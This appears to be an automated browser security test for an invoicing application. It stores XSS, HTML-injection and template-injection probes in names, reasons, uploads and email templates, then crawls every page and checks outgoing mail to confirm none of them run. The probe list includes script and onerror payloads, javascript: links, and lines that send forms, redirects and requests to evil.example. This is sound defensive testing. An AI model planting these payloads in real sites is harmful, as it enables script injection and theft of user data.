// H17: markup, scripts and addresses of scripts in everything that is stored, looked at on every page that a browser finds.
// No script runs, nothing is asked of anybody else, and the content security policy has nothing to report: it is the second
// wall, so the first must have held. The big list of naughty strings is looked for in DUNLIN_TEST_DATA, or in shared/data
// beside the repository.
import assert from "node:assert/strict";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, test } from "node:test";
import { finished, open, root, sendButton, stage, yes } from "./harness.mjs";
import { smtpSink } from "./mails.mjs";

const list = join(process.env.DUNLIN_TEST_DATA || join(root, "../shared/data"), "hostile-strings/blns/blns.json");
const payloads = join(process.env.DUNLIN_TEST_DATA || join(root, "../shared/data"), "hostile-strings/csv-injection/csv-payload.txt");

const probes = [
  "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>",
  "</textarea><svg/onload=alert(1)>", "\" autofocus onfocus=alert(1) x=\"", "' onmouseover='alert(1)", "javascript:alert(1)",
  "</script><script>alert(1)</script>", "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<base href=//evil.example>",
  "<form action=//evil.example><input name=csrf>", "<a href=\"javascript:alert(1)\">pay</a>", "[pay](javascript:alert(1))",
  "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>", "{{7*7}}${7*7}<%= 7*7 %>",
  "&lt;script&gt;alert(1)&lt;/script&gt;", "<details open ontoggle=alert(1)>", "<div hx-get=//evil.example hx-trigger=load>", "<!--><img src=x onerror=alert(1)>",
  "\\\"-alert(1)-\\\"", "<style>@import '//evil.example'</style>", "<img src=//evil.example/pixel>",
];
const probe = probes[1];

let sink;
const at = stage((app) => {
  app.cli(["organisation", "add", "--name", probe, "--from", "ar@acme.example"]);
  for (const role of ["admin", "clerk"])
    app.cli(["user", "add", "--email", `${role}@acme.example`, "--name", `${probe} ${role}`, "--role", role, "--password-stdin"], "correct horse battery");
  app.cli(["api-key", "add", "--name", probe]);
  bring(app, probes);
  if (existsSync(list)) bring(app, [...JSON.parse(readFileSync(list, "utf8")), ...readFileSync(payloads, "utf8").split("\n")]);
}, async () => {
  sink = await smtpSink();
  sink.refusal = `550 5.1.1 ${probe}`;
  sink.unknown.add("refused@customer.example");
  return { DUNLIN_MAIL_URL: sink.url };
});
after(() => sink?.close());

// Imports an invoice for each string that is a name at all, with the string as customer, number and id.
function bring(app, strings) {
  const file = join(app.data, "hostile.csv");
  const cell = (text) => `"${text.replaceAll('"', '""')}"`;
  const header = "customer_id,customer_name,customer_email,invoice_number,currency,total,due_date,pay_url";
  const write = (rows) => writeFileSync(file, [header, ...rows].join("\n") + "\n");
  const isLine = (text) => text.trim() && text.trim().length <= 180 && !/[\r\n]/.test(text);
  const unique = [...new Map(strings.filter(isLine).map((text) => [text.trim(), text])).values()];
  let rows = unique.map((text, i) => [text, text, i === 0 ? "refused@customer.example" : `ar${i}@customer.example`, text, "EUR", "10.00", "2025-11-20",
    `https://pay.example/?${encodeURIComponent(text)}`].map(cell).join(","));
  write(rows);
  const refused = new Set();
  try {
    app.cli(["import", file, "--dry-run", "--json"]);
  } catch (failure) {
    const told = JSON.parse(failure.stdout || failure.stderr);
    for (const finding of told.findings) if (finding.severity === "error") refused.add(finding.row);
  }
  rows = rows.filter((_, i) => !refused.has(i + 2));
  assert.ok(rows.length > unique.length / 2, `${refused.size} of ${unique.length} are no names`);
  write(rows);
  app.cli(["import", file]);
}

// A page that tells everything that should not be.
async function watched(page, seen) {
  await page.context().exposeBinding("tellHostile", (_, what) => seen.push(what));
  await page.context().addInitScript(() => {
    for (const name of ["alert", "confirm", "prompt"]) globalThis[name] = (...words) => globalThis.tellHostile(`${name}(${words}) on ${location}`);
    document.addEventListener("securitypolicyviolation", (event) => globalThis.tellHostile(`CSP ${event.violatedDirective} ${event.blockedURI} on ${location}`));
  });
  page.on("console", (message) => /Content.Security.Policy|Refused to|violates/i.test(message.text()) && seen.push(`${message.text()} on ${page.url()}`));
  page.on("pageerror", (error) => seen.push(`${error} on ${page.url()}`));
  page.on("dialog", (dialog) => (seen.push(`${dialog.message()} on ${page.url()}`), dialog.dismiss()));
  page.context().on("request", (request) => {
    const url = request.url();
    if (!url.startsWith(`${at.app.url}/`) && !/^(data|about|blob):/.test(url)) seen.push(`asks ${url} on ${page.url()}`);
  });
  return page;
}

// What no markup of ours has.
const foreign = (page) => page.evaluate((origin) => {
  const told = [];
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes)
      if (/^on/i.test(name) || /^\s*(javascript|vbscript):/i.test(value) && /^(href|src|action|formaction)$/i.test(name)) told.push(`${element.tagName} ${name}=${value}`);
    const source = element.getAttribute("src") ?? "";
    if (element.tagName === "SCRIPT" && !source.startsWith("/static/")) told.push(element.outerHTML);
    if (["BASE", "IFRAME", "OBJECT", "EMBED", "STYLE"].includes(element.tagName) && !source.startsWith("/")) told.push(element.outerHTML.slice(0, 200));
    if (element.tagName === "FORM" && !element.action.startsWith(`${origin}/`)) told.push(element.outerHTML.slice(0, 200));
  }
  return told;
}, at.app.url);

async function visit(page, path, seen) {
  const answer = await page.goto(at.app.url + path);
  assert.ok(answer.status() < 500, `${path}: ${answer.status()}`);
  if ((answer.headers()["content-type"] ?? "").includes("html")) seen.push(...(await foreign(page)).map((what) => `${what} on ${path}`));
}

// So many pages of one kind: those whose addresses differ in ids and queries alone.
const most = 8;

// Every page that links lead to.
async function crawl(page, from, seen) {
  const [queue, known, kinds] = [[...from], new Set(from), new Map()];
  for (let path; (path = queue.shift()); ) {
    const kind = path.replace(/[0-9a-f]{8}-[0-9a-f-]{27}/g, "*").replace(/=[^&]*/g, "");
    kinds.set(kind, (kinds.get(kind) ?? 0) + 1);
    if (kinds.get(kind) > most || /\.(csv|db)(\?|$)|\/static\//.test(path)) continue;
    await visit(page, path, seen);
    const links = await page.evaluate(() => [...document.querySelectorAll("a[href]")].map((link) => link.href));
    for (const link of links.filter((link) => link.startsWith(`${at.app.url}/`))) {
      const next = link.slice(at.app.url.length).replace(/#.*/, "");
      if (!known.has(next)) known.add(next), queue.push(next);
    }
  }
  return kinds;
}

test("what watches sees a script that is kept from running", async () => {
  const seen = [];
  const page = await watched(await open(at.browser, at.app, { role: "admin" }), seen);
  await page.goto(`${at.app.url}/customers`);
  await page.evaluate(() => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>"));
  await page.waitForFunction(() => document.querySelector("img").complete);
  assert.ok((await foreign(page)).length > 0);
  for (const begun = Date.now(); seen.length === 0 && Date.now() < begun + 60000; ) await page.evaluate(() => new Promise(requestAnimationFrame));
  assert.ok(seen.some((what) => /Content.Security|CSP/i.test(what)), seen.join("\n"));
  await page.context().close();
});

test("h17 nothing that is stored runs, loads or leads anywhere, on any page", async () => {
  const seen = [];
  const page = await watched(await open(at.browser, at.app, { role: "admin" }), seen);
  const go = (path) => page.goto(at.app.url + path);
  const id = async (path, start) => {
    await go(path);
    return page.locator(`tbody a[href^='${start}']`).first().getAttribute("href");
  };
  // Whatever may hold words of a person.
  const invoice = await id("/invoices?tab=all", "/invoices/");
  const customer = await id("/invoices?tab=all&sort=-number", "/customers/");
  for (const held of [invoice, customer]) {
    await go(`${held}/hold/edit`);
    await page.getByLabel("Reason").fill(probe);
    await page.getByRole("button", { name: "Hold reminders" }).click();
    await page.getByText("on hold until it is lifted").first().waitFor();
  }
  await go("/suppressions");
  await page.locator("[name=address]").fill("nobody@customer.example");
  await page.locator("[name=note]").fill(probe);
  await page.locator("form[action='/suppressions'] button").click();
  await page.getByText("nobody@customer.example").first().waitFor();
  await go("/imports");
  const csv = `customer_name,invoice_number,currency,total\n"${probe.replaceAll('"', '""')}",X-1,EUR,1.234\n`;
  await page.getByLabel("Ledger file").setInputFiles({ name: "<img src=x onerror=alert(1)>.csv", mimeType: "text/csv", buffer: Buffer.from(csv) });
  await page.getByRole("button", { name: "Check file" }).click();
  await page.getByText("nothing was imported").waitFor();
  seen.push(...(await foreign(page)));
  await go("/automations/email-notifications/invoice-reminder");
  await page.getByLabel("Subject").fill(`${probe} {{ customer.name }} {{ invoice.number }}`);
  await page.getByLabel("Message", { exact: true }).fill(`${probes.slice(0, 16).join("\n\n")}\n\n{{ customer.name }} {{ invoice.number }} [{{ customer.name }}]({{ invoice.pay_url }})`);
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await page.getByText("Saved.").first().waitFor();
  // Every mail with them, one of them refused with words of the mail server.
  await go("/invoices?per=25");
  await page.getByRole("checkbox", { name: /^Select all \d+ invoices on this page/ }).check();
  const rest = page.getByRole("button", { name: /^Select all .* that match/ });
  if (await rest.count()) await rest.click();
  await sendButton(page).click();
  await yes(page).waitFor();
  seen.push(...(await foreign(page)));
  const sure = page.locator("[name=sure]");
  if (await sure.count()) await sure.check();
  await yes(page).click();
  await finished(page);
  await go("/settings/sending");
  await page.getByLabel("Reason").fill(probe);
  await page.getByRole("button", { name: "Pause sending" }).click();
  await page.getByRole("button", { name: "Resume sending" }).waitFor();
  const kinds = await crawl(page, ["/invoices", "/invoices?tab=all&per=100", "/invoices?q=%3Cscript%3Ealert(1)%3C/script%3E", "/customers", "/reminders",
    "/reminders?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "/suppressions", "/imports", "/automations/email-notifications", "/settings/sending",
    "/nowhere?%22%3E%3Cscript%3Ealert(1)%3C/script%3E", `${invoice.replace("/invoices", "/mail-previews")}`], seen);
  const signedOut = await watched(await (await at.browser.newContext()).newPage(), seen);
  await visit(signedOut, "/sign-in?next=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", seen);
  await signedOut.getByLabel("Email").fill(probe);
  await signedOut.getByLabel("Password").fill(probe);
  await signedOut.evaluate(() => document.querySelector("form").submit());
  await signedOut.getByText("wrong").waitFor();
  seen.push(...(await foreign(signedOut)));
  assert.ok([...kinds.keys()].length > 25, `kinds of pages: ${[...kinds.keys()].join(" ")}`);
  assert.deepEqual([...new Set(seen)], []);
  for (const mail of sink.mails.slice(0, 50)) {
    assert.ok(!/<(script|img|iframe|svg|base|form|object)/i.test(mail.html), mail.html);
    assert.ok(!/<[a-z][^>]*href="?\s*javascript:/i.test(mail.html), mail.html);
  }
  for (const context of [page.context(), signedOut.context()]) await context.close();
});
